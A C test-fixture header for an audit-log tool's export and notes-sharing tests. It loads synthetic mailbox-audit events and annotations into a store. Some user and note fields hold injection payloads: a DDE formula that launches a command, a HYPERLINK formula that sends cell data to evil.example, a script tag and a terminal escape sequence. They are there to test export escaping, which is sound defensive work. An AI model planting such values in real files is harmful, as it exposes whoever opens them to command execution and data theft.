/*
 * export_util.h: what the tests of exports and of notes sharing share
 * (test_export.c, test_notes.c): a case of NBIG events whose time order
 * differs from their load order, the first of them with hostile users;
 * annotations by two authors on it; an export run into memory.
 */
#ifndef AUDITSCOPE_TEST_EXPORT_UTIL_H
#define AUDITSCOPE_TEST_EXPORT_UTIL_H

#include "testutil.h"

#include "annot.h"
#include "export.h"
#include "store.h"
#include "sqlite/sqlite_store.h"

struct fixture {
	char *dir, *path;
	struct store *st;
};

enum { NBIG = 5000 };

/* Values an attacker controls, each aimed at one reader. */
static const char *const hostile_users[] = {
	"=cmd|' /c calc'!a0@contoso.com",
	"+sum(1+1)*cmd@x.com",
	"-2+3@x.com",
	"@sum(1)@x.com",
	"\tab@x.com",
	"\rcr@x.com",
	"plain@contoso.com",
	"quote\"comma,@x.com",
	"new\nline@x.com",
	"'apos@x.com",
	("\xc3\xa9l\xc3\xa8ve@\xc3\xa9"
	 "cole.fr"),
	"esc\x1b[31m@x.com",
};
#define NHOSTILE (sizeof hostile_users / sizeof hostile_users[0])

static const char *const ops[] = { "MailItemsAccessed", "New-InboxRule", "UserLoggedIn" };

/*
 * Load n events into st: event i has record id r-%05d, a time that makes
 * time order differ from load order (three interleaved runs, as UAL and
 * sign-in exports interleave), a hostile user for the first NHOSTILE, and
 * a raw record naming its id. Loaded in the order given by reverse.
 */
static inline void load(struct store *st, int n, bool reverse, const char *srcname)
{
	char *cause = NULL;
	struct store_load *ld = store_load_begin(st, &cause);
	assert_non_null(ld);
	assert_int_equal(store_load_source(ld, srcname, 1000, &cause), 0);
	struct sink sk;
	store_load_sink(ld, &sk);
	for (int k = 0; k < n; k++) {
		int i = reverse ? n - 1 - k : k;
		char rid[32], raw[512], user[64], ip[32];
		snprintf(rid, sizeof rid, "r-%05d", i);
		const char *u = i < (int)NHOSTILE ? hostile_users[i] : NULL;
		if (!u) {
			snprintf(user, sizeof user, "user%d@contoso.com", i % 7);
			u = user;
		}
		snprintf(ip, sizeof ip, "203.0.113.%d", i % 200);
		/* every 5th record indented over lines, as PowerShell's
		 * -Formatted writes them */
		snprintf(raw, sizeof raw,
			 i % 5 == 4
				 ? "{\r\n  \"Id\": \"%s\",\r\n  \"Operation\": \"%s\",\n  \"i\": %d,\n  \"s\": \"caf\\u00e9 \\u0007 \\\"q\\\"\"\n}"
				 : "{\"Id\":\"%s\",\"Operation\":\"%s\",\"i\":%d,\"s\":\"caf\\u00e9 \\u0007 \\\"q\\\"\"}",
			 rid, ops[i % 3], i);
		struct event ev;
		memset(&ev, 0, sizeof ev);
		ev.ts = 1686909600000LL + (int64_t)(i % 3) * 1000 + (int64_t)(i / 3) * 3000 +
			(i % 3 == 2 ? 1500 : 0);
		ev.record_id = (struct sv){ rid, strlen(rid) };
		ev.op = (struct sv){ ops[i % 3], strlen(ops[i % 3]) };
		ev.user = (struct sv){ u, strlen(u) };
		ev.ip = (struct sv){ ip, strlen(ip) };
		ev.op_count = i % 3 == 0 ? i % 5 + 1 : -1;
		ev.flags = i == 3 ? EVF_THROTTLED : 0;
		ev.raw = (struct sv){ raw, strlen(raw) };
		ev.line = (uint64_t)i + 2;
		assert_int_equal(sk.event(sk.ctx, &ev, &cause), 0);
	}
	assert_int_equal(store_load_source_end(ld,
					       "5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed",
					       "test", "utf-8", "complete", NULL, &cause),
			 0);
	assert_int_equal(store_load_end(ld, &cause), 0);
}

static inline int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof *f);
	f->dir = tmpdir_new();
	f->path = malloc(strlen(f->dir) + 16);
	sprintf(f->path, "%s/a.case", f->dir);
	char *cause = NULL;
	if (store_open(f->path, STORE_CREATE, &f->st, &cause) < 0)
		return -1;
	load(f->st, NBIG, false, "big.json");
	setenv("AUDITSCOPE_AUTHOR", "alice", 1);
	setenv("AUDITSCOPE_NOW", "2024-03-01T10:00:00Z", 1);
	*state = f;
	return 0;
}

static inline int teardown(void **state)
{
	struct fixture *f = *state;
	store_close(f->st);
	tmpdir_remove(f->dir);
	free(f->dir);
	free(f->path);
	free(f);
	return 0;
}

static inline int64_t ev_id(struct store *st, const char *rid)
{
	sqlite3_stmt *q;
	int64_t id = -1;
	assert_int_equal(sqlite3_prepare_v2(store_db(st), "SELECT id FROM events WHERE record_id = rid_key(?)",
					    -1, &q, NULL),
			 SQLITE_OK);
	sqlite3_bind_text(q, 1, rid, -1, SQLITE_STATIC);
	if (sqlite3_step(q) == SQLITE_ROW)
		id = sqlite3_column_int64(q, 0);
	sqlite3_finalize(q);
	assert_true(id > 0);
	return id;
}

static const char *const note_texts[] = {
	"first line, \"quoted\"\nsecond line",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"\xe2\x80\xae reversed \xf0\x9f\x94\x91 emoji; caf\xc3\xa9\r\nCRLF",
	"<script>alert(1)</script> [link](http://x) # not a heading | pipe `tick`",
};
#define NNOTES (sizeof note_texts / sizeof note_texts[0])

/* Mark events r-00000 .. r-00011 (the hostile ones), plus a few far apart;
 * tag some, note some, a second author on one. */
static inline void annotate(struct store *st)
{
	char *cause = NULL;
	const char *extra[] = { "r-04999", "r-02500", "r-02048", "r-00100" };
	for (size_t i = 0; i < NHOSTILE; i++) {
		char rid[32];
		snprintf(rid, sizeof rid, "r-%05zu", i);
		int64_t e = ev_id(st, rid);
		assert_int_equal(annot_mark(st, e, true, &cause), 1);
		if (i % 2 == 0)
			assert_int_equal(annot_tag_add(st, e, i % 4 ? "exfil" : "=formula tag", &cause), 1);
		if (i < NNOTES)
			assert_int_equal(annot_note_set(st, e, note_texts[i], &cause), 1);
	}
	for (size_t i = 0; i < sizeof extra / sizeof extra[0]; i++) {
		int64_t e = ev_id(st, extra[i]);
		assert_int_equal(annot_mark(st, e, true, &cause), 1);
		assert_int_equal(annot_tag_add(st, e, "far", &cause), 1);
	}
	setenv("AUDITSCOPE_AUTHOR", "bob \xc3\xa9", 1);
	setenv("AUDITSCOPE_NOW", "2024-03-02T08:00:00Z", 1);
	assert_int_equal(annot_note_set(st, ev_id(st, "r-00001"), "bob disagrees,\n\"strongly\"", &cause), 1);
	setenv("AUDITSCOPE_AUTHOR", "alice", 1);
	setenv("AUDITSCOPE_NOW", "2024-03-01T10:00:00Z", 1);
}

/* How the exports below read (NULL: the defaults); tests of every path
 * set it. */
static const struct export_limits *limits;
static struct export_limits limits_buf;

static inline void use_limits(int64_t annotations, int64_t marks_sorted)
{
	limits_buf = (struct export_limits){ annotations, marks_sorted };
	limits = &limits_buf;
}

/* Run an export into memory; returns the text (caller frees). */
static inline char *run_export(struct store *st, enum export_format fmt, const char *filter, bool marked,
			       int64_t *events)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *m = open_memstream(&buf, &len);
	struct export_opts o = {
		.format = fmt, .filter = filter, .marked = marked, .case_label = "a.case", .limits = limits
	};
	struct export_stats s;
	char *cause = NULL;
	int rc = export_run(st, m, &o, &s, &cause);
	if (rc < 0)
		print_error("export: %s\n", cause);
	assert_int_equal(rc, 0);
	fclose(m);
	if (events)
		*events = s.events;
	return buf;
}

#endif
